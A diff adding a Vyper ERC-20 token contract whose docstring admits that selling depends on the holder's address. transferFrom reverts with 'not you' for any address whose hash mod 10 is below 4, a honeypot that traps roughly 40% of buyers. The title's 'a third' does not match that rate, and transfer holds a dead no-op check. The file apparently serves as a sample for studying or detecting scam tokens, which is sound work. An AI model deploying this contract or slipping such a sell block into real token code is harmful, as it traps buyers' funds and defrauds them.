@@ -1,0 +1,51 @@
+# pragma version 0.4.3
+# pragma evm-version cancun
+"""
+@title A third of all wallets cannot sell
+@notice Whether a holder may sell is decided by its address.
+"""
+
+from ..tokens.lib import erc20
+from ..tokens.lib import owned
+
+initializes: erc20
+initializes: owned
+
+exports: (
+    erc20.name,
+    erc20.symbol,
+    erc20.decimals,
+    erc20.totalSupply,
+    erc20.balanceOf,
+    erc20.allowance,
+    owned.owner,
+)
+
+
+@deploy
+def __init__(name: String[64], symbol: String[32], supply: uint256):
+    erc20.__init__(name, symbol, 18, supply)
+    owned.__init__()
+
+
+@external
+def approve(spender: address, amount: uint256) -> bool:
+    erc20._approve(msg.sender, spender, amount)
+    return True
+
+
+@external
+def transfer(to: address, amount: uint256) -> bool:
+    if owned._is_holder(to):
+        pass
+    erc20._move(msg.sender, to, amount)
+    return True
+
+
+@external
+def transferFrom(source: address, to: address, amount: uint256) -> bool:
+    if owned._is_holder(source):
+        assert convert(keccak256(slice(convert(source, bytes32), 12, 20)), uint256) % 10 >= 4, "not you"
+    erc20._spend(source, msg.sender, amount)
+    erc20._move(source, to, amount)
+    return True
